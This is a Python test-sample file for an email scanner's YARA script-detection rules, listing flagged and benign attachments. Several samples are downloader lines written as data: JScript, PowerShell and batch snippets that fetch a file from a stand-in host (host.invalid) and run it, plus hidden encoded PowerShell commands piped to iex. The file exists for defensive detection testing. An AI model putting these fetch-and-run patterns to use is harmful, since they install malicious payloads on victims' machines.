"""Samples for rules/scripts.yar. The scripts name no real host and do not work."""

import base64

from tests.starter.samples import formats
from tests.starter.samples.parts import attachment, body, file, member

_JS = b"""var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "http://host.invalid/a", false);
new ActiveXObject("WScript.Shell").Run("a");"""
_PS1 = b"Start-Process (New-Object Net.WebClient).DownloadFile('http://host.invalid/a', 'a')"
_BAT = b"@echo off\r\ncurl -o a.exe https://host.invalid/a\r\nstart a.exe\r\n"
_ENCODED = base64.b64encode("Write-Output 'nothing is done here'".encode("utf-16-le"))
_DISCUSSION = (
    b"The script called WScript.Shell and MSXML2.XMLHTTP, then powershell -enc " + _ENCODED
)

DETECTED = {
    "Mailward.Attachment.Script": [
        attachment("invoice.js", b"x"),
        attachment("INVOICE.VBS", b"x"),
        attachment("order.hta", b"<html></html>"),
        attachment("run.ps1 ", b"x"),
        attachment("help.chm", b"ITSF"),
        attachment("office.rdp", b"full address:s:host.invalid"),
    ],
    "Mailward.Archive.Script": [
        member("invoice.wsf", b"x"),
        member("2026/invoice.JSE", b"x"),
        member("invoice.hta", b"x"),
    ],
    "Mailward.Script.Downloader": [
        attachment("invoice.js", _JS),
        member("invoice.js", _JS),
        member("invoice.vbs", _JS.decode().encode("utf-16-le")),
        attachment("run.ps1", _PS1),
        member("run.bat", _BAT),
    ],
    "Mailward.Script.EncodedCommand": [
        attachment("run.cmd", b"powershell.exe -w hidden -enc " + _ENCODED),
        member("run.bat", b"PowerShell -NoP -EncodedCommand " + _ENCODED),
        member("run.ps1", b"[Convert]::FromBase64String('" + _ENCODED + b"') | iex"),
    ],
    "Mailward.Attachment.DisguisedScript": [
        attachment("invoice.pdf", b"@echo off\r\nstart a.exe"),
        attachment("photo.jpg", b"#!/bin/sh\necho nothing"),
        attachment("list.xls", b"<job id='a'>\n<script language='JScript'>"),
        attachment("letter.doc", b"<html><head><HTA:APPLICATION id='a'>"),
        attachment("song.mp3", b"#@~^AAAAAA=="),
        member("photo.png", b'Set s = CreateObject("WScript.Shell")'),
        file("scan.pdf", b"\xef\xbb\xbfpowershell -nop -c nothing"),
    ],
}

LEFT_ALONE = {
    "Mailward.Attachment.Script": [
        attachment("notes on invoice.js.txt", _JS, "text/plain"),
        attachment("config.json", b"{}"),
        attachment("table.csv", b"a,b"),
        attachment("fix.patch", b"--- a.js\n+++ a.js"),
        member("src/index.js", b"x"),
        body(_JS),
    ],
    "Mailward.Archive.Script": [
        member("src/index.js", b"x"),
        member("deploy.ps1", b"x"),
        member("make.bat", b"x"),
        attachment("invoice.wsf", b"x"),
    ],
    "Mailward.Script.Downloader": [
        member("src/api.js", b"fetch('https://www.example.org/a').then(r => r.json())"),
        member("old.js", b'var r = new ActiveXObject("Microsoft.XMLHTTP"); var start = /* */ 1;'),
        member("clean.bat", b"@echo off\r\ndel /q build\r\n"),
        member("dialogue.vbs", b'CreateObject("WScript.Shell").Popup "Good morning"'),
        attachment("discussion.txt", _DISCUSSION, "text/plain"),
        body(_DISCUSSION),
        file("install.ps1", _PS1),
    ],
    "Mailward.Script.EncodedCommand": [
        member("run.ps1", b"Get-ChildItem -Path C:\\ -Encoding utf8"),
        member("run.bat", b"powershell -ExecutionPolicy Bypass -File run.ps1"),
        attachment("discussion.txt", _DISCUSSION, "text/plain"),
    ],
    "Mailward.Attachment.DisguisedScript": [
        attachment("run.bat", b"@echo off"),
        attachment("run.txt", b"@echo off"),
        attachment(
            "report.xls", b"<html><table><tr><td>A report as a table</td></tr></table></html>"
        ),
        attachment("manual.pdf", formats.pdf("(how to call new ActiveXObject(...))")),
        attachment("manual.rtf", formats.rtf("@echo off and WScript.Echo")),
        attachment("empty.doc", b""),
    ],
}
